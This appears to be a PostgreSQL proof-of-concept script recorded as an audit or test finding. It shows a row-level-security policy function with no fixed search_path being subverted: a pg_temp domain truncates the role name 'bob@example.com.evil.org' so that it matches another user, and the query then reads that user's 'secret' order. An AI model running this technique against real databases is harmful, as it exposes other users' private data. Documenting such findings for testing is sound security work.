-- finding: policy-function-search-path function shop.me()
-- people: bob@example.com.evil.org
CREATE ROLE "bob@example.com.evil.org" LOGIN IN ROLE order_users;
CREATE FUNCTION shop.me() RETURNS text STABLE LANGUAGE sql AS $$ SELECT current_user::text $$;
ALTER POLICY own ON shop.orders USING (owner = (SELECT shop.me()));
-- leak as bob@example.com.evil.org
CREATE DOMAIN pg_temp.text AS varchar(15);
SET search_path = pg_temp, pg_catalog;
SELECT item FROM shop.orders WHERE item = 'secret';
